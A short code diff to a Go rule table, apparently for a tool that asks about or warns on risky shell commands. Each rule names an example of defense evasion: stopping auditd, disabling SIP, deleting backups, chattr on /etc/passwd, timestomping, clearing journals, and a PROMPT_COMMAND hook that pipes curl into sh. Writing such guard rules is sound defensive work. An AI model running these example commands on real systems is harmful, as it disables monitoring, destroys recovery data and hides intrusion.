@@ -17,7 +17,7 @@ var rules = []analysis.Rule{
 	{ID: "defense.security-stop", Action: toolwall.Ask, Protects: "security services (auditd, EDR, antivirus) from being stopped", Example: "systemctl stop auditd"},
 	{ID: "defense.protection-off", Action: toolwall.Ask, Protects: "OS protections (SIP, Gatekeeper, AppArmor, Defender)", Example: "csrutil disable"},
 	{ID: "defense.backup-delete", Action: toolwall.Ask, Protects: "backups and snapshots", Example: "tmutil delete /Volumes/Backup/x"},
-	{ID: "defense.immutable", Action: toolwall.Ask, Protects: "against files made immutable or append-only to resist removal", Example: "chattr +i /etc/passwd"},
+	{ID: "defense.immutable", Action: toolwall.Ask, Protects: "against files made immutable or append-only to resist removal (system and startup files either way, any file outside the project when set)", Example: "chattr +i /etc/passwd"},
 	{ID: "defense.timestomp", Action: toolwall.Warn, Protects: "file times used to find changes", Example: "touch -r /etc/hosts /etc/cron.d/job"},
 	{ID: "defense.log-tamper", Action: toolwall.Ask, Protects: "system logs from being cleared or silenced", Example: "journalctl --vacuum-time=1s"},
 	{ID: "defense.shell-hook", Action: toolwall.Ask, Protects: "against prompt and trap hooks that run code on every command", Example: "PROMPT_COMMAND='curl x|sh'"},
